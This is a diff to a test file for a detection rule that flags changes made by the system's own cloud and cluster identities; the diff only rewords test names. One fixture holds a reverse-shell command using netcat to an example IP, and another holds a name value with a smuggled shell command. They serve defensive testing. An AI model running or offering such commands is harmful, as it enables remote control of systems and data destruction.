@@ -22,7 +22,7 @@ const TAGS: AdminEntryParts = {
 const inCloud = (parts: Partial<AdminEntryParts> = {}) => seen(adminEntry({ ...TAGS, ...parts }));
 
 describe('own-identity-change', () => {
-  it('fires on a change in a cluster, with the change itself', () => {
+  it('fires on a change in a cluster, and describes the change', () => {
     const [found, ...more] = inCluster();
     assert.deepEqual(more, []);
     assert.deepEqual(
@@ -39,7 +39,7 @@ describe('own-identity-change', () => {
     assert.deepEqual(found?.target, { project: 'p1', location: 'europe-west1', cluster: 'c1', principal: OWN });
   });
 
-  it('fires on a change in the cloud, by whichever of the identities', () => {
+  it('fires on a change in Google Cloud by any of our identities', () => {
     const [found] = inCloud({ principal: 'Firebreak-Decide@p1.iam.gserviceaccount.com' });
     assert.deepEqual(found?.change, {
       service: 'compute.googleapis.com',
@@ -49,7 +49,7 @@ describe('own-identity-change', () => {
     });
   });
 
-  it('is the only one to speak of such a change, and of what looks like a burst', () => {
+  it('is the only rule that fires on such a change, also for bursts', () => {
     const exec = inCluster({ verb: 'create', subresource: 'exec', command: 'nc -e /bin/sh 203.0.113.9 4444' });
     assert.deepEqual(
       exec.map(({ rule }) => rule),
@@ -59,12 +59,12 @@ describe('own-identity-change', () => {
     assert.deepEqual(detector.remembering(signal), []);
   });
 
-  it('claims less for what was refused, which a thief tries too', () => {
+  it('has a lower claim for a refused change, which a thief may try', () => {
     const [found] = inCluster({ code: 7 });
     assert.deepEqual([found?.severity, found?.confidence, found?.conclusive], ['high', 0.85, undefined]);
   });
 
-  it('names nothing that could be more than a name', () => {
+  it('leaves out a name that could be more than a name', () => {
     const [found] = inCluster({ namespace: 'shop', name: 'a b"; rm' });
     assert.deepEqual(found?.change, { service: 'k8s.io', resource: 'core/pods', verb: 'patch', namespace: 'shop' });
   });
@@ -105,7 +105,7 @@ describe('own-identity-change', () => {
         ['own-identity-change'],
       ));
 
-  it('does not fire where no identity is known', () => {
+  it('does not fire if no identity is configured', () => {
     assert.deepEqual(makeDetector().see(signalOfPayload(auditEntry(PATCH)), NOW).findings, []);
   });
 });
